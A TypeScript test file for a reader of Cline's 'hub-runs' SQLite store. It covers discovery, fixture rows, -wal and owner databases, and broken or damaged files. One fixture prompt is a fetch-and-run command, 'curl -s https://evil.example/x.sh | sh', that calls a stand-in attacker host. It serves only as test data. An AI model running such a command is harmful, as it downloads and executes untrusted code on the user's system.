/**
 * The `hub-runs` store (readers/hub-runs/reader.ts) on its committed fixture (records planted with the real
 * DDL: test/helpers/side-store-dbs.ts), on databases built here (a record only in the -wal, a second hub
 * owner's file, broken files), and on the real 3.0.65 home, whose queue is empty.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { storeOf } from '../../../src/discover/discover.js';
import { readHubRuns } from '../../../src/readers/hub-runs/reader.js';
import { FIXTURE_DBS } from '../../helpers/side-store-dbs.js';
import { DEMO_ROWS, LEAD_SESSION } from '../../helpers/side-store-rows.js';
import { brief, imageWith, readDiscovered, readRealHome, REAL_3X_IMAGE, removeImages } from '../../helpers/side-store-tests.js';
import { snapshotFolder } from '../../helpers/sqlite-fixtures.js';
import { collect, fixture, makeSource } from '../../helpers/source.js';

afterEach(removeImages);

const DB = 'home/u/.cline/data/db/hub-runs-hub-production.db';

describe('discovery', () => {
  it('files db/hub-runs.db and db/hub-runs-<owner>.db with their side files as hub-runs, not hub-events', () => {
    for (const rel of ['db/hub-runs.db', 'db/hub-runs-hub-production.db', 'db/hub-runs-hub-0a1b2c3d4e5f.db-wal']) {
      expect(storeOf(rel, 'cline-data')).toBe('hub-runs');
    }
    expect(storeOf('db/hub-events-hub-production.db', 'cline-data')).not.toBe('hub-runs');
  });
});

describe('readHubRuns on the committed fixture', () => {
  it('gives a hub_run row at accepted_at and a hub_run_end row at ended_at per run, the prompt and the client', async () => {
    const img = fixture('hub-runs', 'img');
    const before = snapshotFolder(img);
    const { rows, files } = await readDiscovered('hub-runs', img);
    expect(snapshotFolder(img)).toEqual(before);
    expect(files).toEqual([DB]);
    expect(rows.map(brief)).toEqual([
      {
        line: 1,
        seq: 0,
        kind: 'hub_run',
        at: '2026-12-01T17:01:10.000Z',
        sid: LEAD_SESSION,
        text:
          'hub run: hrun_1796144470000_ab12c state=completed client=cli-20541 accepted=2026-12-01T17:01:10.000Z' +
          ' started=2026-12-01T17:01:10.050Z ended=2026-12-01T17:01:15.000Z mode=act files=1 images=0 prompt=summarise notes.txt',
      },
      {
        line: 1,
        seq: 1,
        kind: 'hub_run_end',
        at: '2026-12-01T17:01:15.000Z',
        sid: LEAD_SESSION,
        text: 'hub run end: hrun_1796144470000_ab12c state=completed error=-',
      },
      {
        line: 2,
        seq: 0,
        kind: 'hub_run',
        at: '2026-12-01T17:01:20.000Z',
        sid: LEAD_SESSION,
        text:
          'hub run: hrun_1796144480000_x9y8z state=interrupted client=vscode-7 accepted=2026-12-01T17:01:20.000Z' +
          ' started=2026-12-01T17:01:20.100Z ended=2026-12-01T17:01:30.000Z mode=- prompt=curl -s https://evil.example/x.sh | sh',
      },
      {
        line: 2,
        seq: 1,
        kind: 'hub_run_end',
        at: '2026-12-01T17:01:30.000Z',
        sid: LEAD_SESSION,
        text: 'hub run end: hrun_1796144480000_x9y8z state=interrupted error=Hub daemon exited before the run finished.',
      },
      {
        line: 3,
        seq: 0,
        kind: 'hub_run',
        at: '2026-12-01T17:01:35.000Z',
        sid: '1796144490000_other',
        text: 'hub run: hrun_1796144495000_q1w2e state=queued client=- accepted=2026-12-01T17:01:35.000Z started=- ended=- mode=- prompt=-',
      },
      {
        line: 3,
        seq: 1,
        kind: 'parser',
        at: '2026-12-01T17:01:35.000Z',
        sid: '1796144490000_other',
        text: `parser: ${DB} line 3: hub_runs: input_json is not valid JSON: Unterminated string in JSON at position 19`,
      },
    ]);
    expect(rows.map((r) => r.is_error)).toEqual([null, null, null, true, null, true]);
    expect(rows[3]).toEqual({
      host: 'test-host',
      store: 'hub-runs',
      home: 'home/u',
      user: 'u',
      client: 'cline',
      agent: 'cline',
      source_file: DB,
      source_line: 2,
      source_seq: 1,
      source_role: 'primary',
      timestamp_utc: Date.parse('2026-12-01T17:01:30.000Z'),
      timestamp_source: 'recorded',
      session_id: LEAD_SESSION,
      project_path: null,
      git_branch: null,
      turn_type: 'system',
      kind: 'hub_run_end',
      model: null,
      provider: null,
      tool_name: null,
      tool_use_id: null,
      text: 'hub run end: hrun_1796144480000_x9y8z state=interrupted error=Hub daemon exited before the run finished.',
      tokens_in: null,
      tokens_out: null,
      cost_usd: null,
      is_error: true,
      file_row: null,
      permission_mode: null,
      sync_target: null,
      session_origin: null,
      imported_from: null,
      setting_name: null,
      setting_value: null,
      parent_session_id: null,
    });
  });

  it('matches its generator (DEMO_ROWS with the real DDL)', async () => {
    const img = imageWith('hub-runs', 'hub-runs-hub-production.db', DEMO_ROWS['hub-runs']);
    const fresh = await readDiscovered('hub-runs', img.imageRoot);
    const committed = await readDiscovered('hub-runs', fixture('hub-runs', 'img'));
    expect(fresh.rows.map(brief)).toEqual(committed.rows.map(brief));
    expect(FIXTURE_DBS['hub-runs'].at(-1)).toBe('hub-runs-hub-production.db');
  });
});

describe('readHubRuns on databases built here', () => {
  const run = (n: number, extra: Record<string, unknown> = {}) => ({
    run_id: `hrun_${n}`,
    session_id: `179614440000${n}_s${n}`,
    state: 'running',
    input_json: { prompt: `prompt ${n}` },
    accepted_at: 1796144400000 + n * 1000,
    ...extra,
  });

  it('reads a run only in the -wal and every owner database, in file order', async () => {
    const img = imageWith('hub-runs', 'hub-runs.db', { hub_runs: [run(1)] }, { walTables: { hub_runs: [run(2)] } });
    imageWithOwner(img.dbDir, { hub_runs: [run(3)] });
    const before = snapshotFolder(img.imageRoot);
    const { rows, files } = await readDiscovered('hub-runs', img.imageRoot);
    expect(snapshotFolder(img.imageRoot)).toEqual(before);
    expect(files.map((f) => path.basename(f))).toEqual([
      'hub-runs-hub-dev.db',
      'hub-runs.db',
      'hub-runs.db-shm',
      'hub-runs.db-wal',
    ]);
    expect(rows.map((r) => `${path.basename(r.source_file)} ${r.source_line} ${r.kind} ${r.session_id}`)).toEqual([
      'hub-runs-hub-dev.db 1 hub_run 1796144400003_s3',
      'hub-runs.db 1 hub_run 1796144400001_s1',
      'hub-runs.db 2 hub_run 1796144400002_s2',
    ]);
  });

  it('gives one parser row for a file that is not SQLite, a database without hub_runs, and an orphan -wal; the load goes on', async () => {
    const img = imageWith('hub-runs', 'hub-runs.db', { hub_runs: [run(1)] });
    fs.writeFileSync(path.join(img.dbDir, 'hub-runs-broken.db'), 'not a database at all');
    imageWithOwner(img.dbDir, {}, ['CREATE TABLE other (x)']);
    fs.writeFileSync(path.join(img.dbDir, 'hub-runs-gone.db-wal'), 'wal bytes');
    const rows = await collect(readHubRuns, makeSource({ store: 'hub-runs', imageRoot: img.imageRoot, root: img.dataRoot }));
    expect(rows.map((r) => `${path.basename(r.source_file)} ${r.kind} ${r.text?.replace(/^parser: \S+ /, '')}`)).toEqual([
      'hub-runs-broken.db parser not an SQLite database (no "SQLite format 3" header; 21 bytes)',
      'hub-runs-hub-dev.db parser none of the tables hub_runs (unknown schema; hub-runs-hub-dev.db)',
      `hub-runs.db hub_run ${rows[2].text}`,
      'hub-runs-gone.db-wal parser SQLite side file without its database (hub-runs-gone.db is absent): not readable alone, not read',
    ]);
  });

  it('gives the rows read so far and one parser row for a database whose pages are damaged', async () => {
    const many = Array.from({ length: 400 }, (_, i) => run(i + 1, { input_json: { prompt: 'x'.repeat(200) } }));
    const img = imageWith('hub-runs', 'hub-runs.db', { hub_runs: many });
    const file = path.join(img.dbDir, 'hub-runs.db');
    const bytes = fs.readFileSync(file);
    bytes.fill(0xa5, Math.floor(bytes.length / 2));
    fs.writeFileSync(file, bytes);
    const rows = await collect(readHubRuns, makeSource({ store: 'hub-runs', imageRoot: img.imageRoot, root: img.dataRoot }));
    const parser = rows.filter((r) => r.kind === 'parser');
    expect(parser.length).toBe(1);
    expect(parser[0].text).toMatch(
      /^parser: home\/u\/\.cline\/data\/db\/hub-runs\.db: reading hub_runs failed after rowid \d+: database disk image is malformed/,
    );
    const read = rows.filter((r) => r.kind === 'hub_run').length;
    expect(read).toBeGreaterThan(0);
    expect(read).toBeLessThan(400);
  });
});

/** Adds a second owner's database `hub-runs-hub-dev.db` beside the first (with its own DDL when given). */
function imageWithOwner(dbDir: string, tables: Record<string, Record<string, unknown>[]>, ddl?: string[]): void {
  const side = imageWith('hub-runs', 'hub-runs-hub-dev.db', tables, ddl ? { ddl } : {});
  fs.copyFileSync(path.join(side.dbDir, 'hub-runs-hub-dev.db'), path.join(dbDir, 'hub-runs-hub-dev.db'));
}

describe('readHubRuns on the real 3.0.65 home', () => {
  it('reads its hub-runs-hub-production.db, whose queue is empty, without changing a byte of the home', async () => {
    const { rows, files } = await readRealHome('hub-runs', REAL_3X_IMAGE);
    expect(files).toEqual(['home/.cline/data/db/hub-runs-hub-production.db']);
    expect(rows).toEqual([]);
  });
});
